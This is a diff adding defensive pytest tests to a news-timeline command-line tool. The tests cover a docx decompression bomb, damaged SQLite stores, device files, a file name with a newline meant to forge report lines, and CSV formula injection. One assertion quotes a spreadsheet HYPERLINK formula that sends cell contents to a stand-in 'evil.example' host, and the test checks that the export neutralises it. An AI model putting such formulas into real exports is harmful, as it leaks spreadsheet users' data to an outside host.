@@ -172,6 +172,17 @@ def test_a_word_document_within_the_limit_is_still_read(tmp_path):
     assert problems == [] and article.text.startswith("It rained in Moscow.")
 
 
+def test_the_command_line_refuses_a_docx_bomb_with_its_message_and_the_store_is_untouched(tmp_path):
+    bomb = tmp_path / "bomb.docx"
+    docx_bomb(bomb, 21_000_000, b"x")
+    before = _cli(tmp_path, "corpus", "list")
+    added = _cli(tmp_path, "corpus", "add", str(bomb))
+    assert added.returncode == 1
+    assert "bomb.docx: the Word document unpacks to 22.0 MB" in added.stderr and "Traceback" not in added.stderr
+    assert "0 added, 0 already in the corpus, 1 problem;" in added.stderr
+    assert _cli(tmp_path, "corpus", "list").stdout == before.stdout
+
+
 # -- row 3: a PDF whose pages share one large content stream -------------------------------------
 
 
@@ -223,6 +234,18 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote():
         assert rows[0][cell] == "'" + formulas[column].replace("\r", "\n"), column
     safe = list(csv.DictReader(io.StringIO(export.to_csv([_event(title="Talks, day 2", sentence="Talks began on June 19, 2024.")]))))
     assert safe[0]["title"] == "Talks, day 2" and safe[0]["sentence"] == "Talks began on June 19, 2024."
+
+
+def test_the_command_line_csv_export_of_a_corpus_with_formulas_runs_none(tmp_path):
+    article = tmp_path / "formula.txt"
+    article.write_bytes(formula_article())
+    assert _cli(tmp_path, "corpus", "add", str(article)).returncode == 0
+    out = tmp_path / "events.csv"
+    exported = _cli(tmp_path, "export", "--format", "csv", "--out", str(out))
+    assert exported.returncode == 0 and f"written to {out}" in exported.stderr
+    cells = [cell for row in csv.reader(out.open(encoding="utf-8")) for cell in row]
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 def test_the_calendar_description_carries_only_web_links():
@@ -298,6 +321,25 @@ def _copy_of(stored: Path, tmp_path: Path) -> Path:
     return store
 
 
+@pytest.mark.parametrize("damage", [overwrite_header, cut_short, garbage_inside, empty_file], ids=lambda f: f.__name__)
+def test_a_damaged_store_gives_one_message_naming_it_and_what_to_do_and_is_kept(stored, tmp_path, damage):
+    store = _copy_of(stored, tmp_path)
+    damage(store)
+    damaged = store.read_bytes()
+    for argv in (("corpus", "list"), ("export", "--format", "csv"), ("corpus", "add", str(PROJECT / "README.md"))):
+        shown = _cli(tmp_path, *argv)
+        assert shown.returncode == 1, argv
+        assert "Traceback" not in shown.stderr, argv
+        assert f"the corpus store {store} is damaged" in shown.stderr and "corpus reset" in shown.stderr, argv
+        assert store.read_bytes() == damaged  # never rebuilt, never written
+    reset = _cli(tmp_path, "corpus", "reset")
+    assert reset.returncode == 0 and "moved" in reset.stderr
+    (kept,) = [p for p in store.parent.iterdir() if p.name.startswith("timeline-damaged-")]
+    assert kept.read_bytes() == damaged
+    listed = _cli(tmp_path, "corpus", "list")
+    assert listed.returncode == 0 and len(listed.stdout.splitlines()) == 5  # a new corpus, with the sample
+
+
 def test_the_dashboard_shows_the_same_message_for_a_damaged_store(stored, tmp_path, monkeypatch):
     from streamlit.testing.v1 import AppTest
 
@@ -307,6 +349,17 @@ def test_the_dashboard_shows_the_same_message_for_a_damaged_store(stored, tmp_pa
     app = AppTest.from_file(str(PROJECT / "dashboard.py"), default_timeout=60).run()
     assert not app.exception
     assert [e.value for e in app.error] == [str(StoreDamaged(str(store), "file is not a database"))]
+
+
+def test_a_damaged_cached_event_set_is_merged_again_and_reported(stored, tmp_path):
+    store = _copy_of(stored, tmp_path)
+    expected = _cli(tmp_path, "export", "--format", "json").stdout
+    damaged_blob(store)
+    again = _cli(tmp_path, "export", "--format", "json")
+    assert again.returncode == 0 and "Traceback" not in again.stderr
+    assert again.stdout == expected
+    assert f"{store}: the cached events could not be read; they were merged again" in again.stderr
+    assert _cli(tmp_path, "export", "--format", "json").stderr == ""  # the set was stored again, sound
 
 
 def test_damaged_cached_mentions_are_analysed_again_and_reported(tmp_path):
@@ -332,6 +385,20 @@ def test_a_backup_is_a_consistent_copy_while_another_process_writes(tmp_path):
     copy = sqlite3.connect(tmp_path / "copy.sqlite")
     assert copy.execute("PRAGMA integrity_check").fetchone() == ("ok",)
     assert [row[0] for row in copy.execute("SELECT file FROM articles")] == ["a.txt"]
+
+
+def test_corpus_backup_writes_a_copy_and_says_where(tmp_path):
+    folder = tmp_path / "backups"
+    folder.mkdir()
+    nothing = _cli(tmp_path, "corpus", "backup", str(folder))
+    assert nothing.returncode == 1 and "no corpus store at" in nothing.stderr and not list(folder.iterdir())
+    assert _cli(tmp_path, "corpus", "list").returncode == 0
+    done = _cli(tmp_path, "corpus", "backup", str(folder))
+    (copy,) = folder.iterdir()
+    assert done.returncode == 0 and f"to {copy}" in done.stderr and "(5 articles)" in done.stderr
+    assert len(Store(copy).articles()) == 5
+    again = _cli(tmp_path, "corpus", "backup", str(copy))
+    assert again.returncode == 2 and "already exists" in again.stderr
 
 
 # -- row 7: a table's rows fail alone ------------------------------------------------------------
@@ -370,6 +437,17 @@ def test_a_date_cell_of_any_length_is_read_as_no_date_at_once():
 # -- row 8: devices and pipes ----------------------------------------------------------------------
 
 
+@pytest.mark.parametrize("link", [False, True], ids=["/dev/zero", "a .txt link to /dev/zero"])
+def test_adding_a_device_is_refused_without_reading_it(tmp_path, link):
+    target = Path("/dev/zero")
+    if link:
+        target = tmp_path / "zero.txt"
+        target.symlink_to("/dev/zero")
+    added = _cli(tmp_path, "corpus", "add", str(target))
+    assert added.returncode == 1 and "Traceback" not in added.stderr
+    assert f"{target.name}: not a regular file (a device, a pipe or a socket); only files are read" in added.stderr
+
+
 def test_reading_a_named_pipe_neither_blocks_nor_reads_it(tmp_path):
     pipe = tmp_path / "feed.txt"
     os.mkfifo(pipe)
@@ -384,6 +462,19 @@ def test_a_file_is_never_read_past_the_limit_even_when_it_grows(tmp_path, monkey
     monkeypatch.setattr(ingest, "MAX_BYTES", 500)
     monkeypatch.setattr(os, "fstat", lambda fd, real=os.fstat: os.stat_result((*real(fd)[:6], 10, *real(fd)[7:])))  # claims 10 bytes
     assert ingest.read_bytes(path).message == "file grew past the 0.0005 MB limit while it was read"
+
+
+# -- row 9: names shown as data --------------------------------------------------------------------
+
+
+def test_a_file_name_with_a_newline_cannot_forge_a_line_of_the_report(tmp_path):
+    forged = tmp_path / FORGED_NAME
+    forged.write_bytes(b"")
+    added = _cli(tmp_path, "corpus", "add", str(forged))
+    lines = added.stderr.splitlines()
+    assert "fake.txt: 999 added, 0 problems" not in lines and "real.txt: empty file" not in lines
+    assert "fake.txt: 999 added, 0 problems\\nreal.txt: empty file" in lines
+    assert lines[-1].startswith("0 added, 0 already in the corpus, 1 problem;")
 
 
 # -- row 10: large tables ------------------------------------------------------------------------
@@ -406,3 +497,61 @@ def test_adding_a_table_takes_time_in_proportion_to_its_rows(tmp_path):
         store.close()
 
     assert_linear(add, 100)
+
+
+# -- a command line a newcomer trusts ---------------------------------------------------------------
+
+
+def test_a_closed_pipe_ends_the_command_quietly(tmp_path):
+    article = tmp_path / "dates.txt"
+    article.write_text("Published: June 20, 2024\n" + "Talks resumed on June 19, 2024. " * 3000, encoding="utf-8")
+    env = {**os.environ, "TIMELINE_DATA_DIR": str(tmp_path / "store")}
+    tagging = subprocess.Popen([sys.executable, "-m", "timeline", "tag", str(article)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=PROJECT, env=env)
+    assert tagging.stdout.readline().startswith(b"{")
+    tagging.stdout.close()  # as `| head -1` does
+    assert tagging.wait(120) == 0
+    assert tagging.stderr.read() == b""
+
+
+def test_tag_marks_the_expressions_of_the_dateline(tmp_path):
+    seed = next((PROJECT / "data").glob("004_*.txt"))
+    tagged = _cli(tmp_path, "tag", str(seed))
+    rows = [json.loads(line) for line in tagged.stdout.splitlines()]
+    assert [(r["text"], r.get("role")) for r in rows[:3]] == [("2024.10.16", "dateline"), ("09:08", "dateline"), ("June", None)]
+    assert sum(r.get("role") == "dateline" for r in rows) == 2
+
+
+@pytest.mark.parametrize(
+    "argv, message",
+    [
+        (["eval-timeml", "no-such-folder"], "no-such-folder: folder not found"),
+        (["eval-tls", "no-such-folder"], "no-such-folder: folder not found"),
+        (["build", "no-such-folder"], "no-such-folder: folder not found"),
+        (["export", "no-such-folder", "--format", "csv"], "no-such-folder: folder not found"),
+        (["tag", "no-such-file.txt"], "no-such-file.txt: file not found"),
+    ],
+)
+def test_a_missing_folder_or_file_is_a_usage_error(tmp_path, argv, message):
+    done = _cli(tmp_path, *argv)
+    assert done.returncode == 2 and message in done.stderr and "Traceback" not in done.stderr
+
+
+def test_a_folder_without_timeml_documents_scores_nothing_and_fails(tmp_path):
+    done = _cli(tmp_path, "eval-timeml", str(tmp_path))
+    assert done.returncode == 1 and done.stdout == "" and "no TimeML (.tml) files" in done.stderr
+
+
+def test_every_command_that_writes_says_what_and_where(tmp_path):
+    out = tmp_path / "events.ics"
+    exported = _cli(tmp_path, "export", "--format", "ics", "--out", str(out))
+    assert exported.returncode == 0 and exported.stderr.strip().endswith(f"(ics) written to {out}")
+    store = tmp_path / "store" / "timeline.sqlite"
+    listed = _cli(tmp_path, "corpus", "list")
+    assert listed.stderr.strip() == f"5 articles in the corpus at {store}"
+    first = json.loads(listed.stdout.splitlines()[0])
+    dated = _cli(tmp_path, "corpus", "set-date", first["id"], "2024-11-12")
+    assert dated.returncode == 0 and f"publication date set to 2024-11-12 in the corpus at {store}" in dated.stderr
+    removed = _cli(tmp_path, "corpus", "remove", first["id"])
+    assert removed.returncode == 0 and f"from the corpus at {store}" in removed.stderr
+    unknown = _cli(tmp_path, "corpus", "remove", first["id"])
+    assert unknown.returncode == 1 and f"no article with id {first['id']}" in unknown.stderr
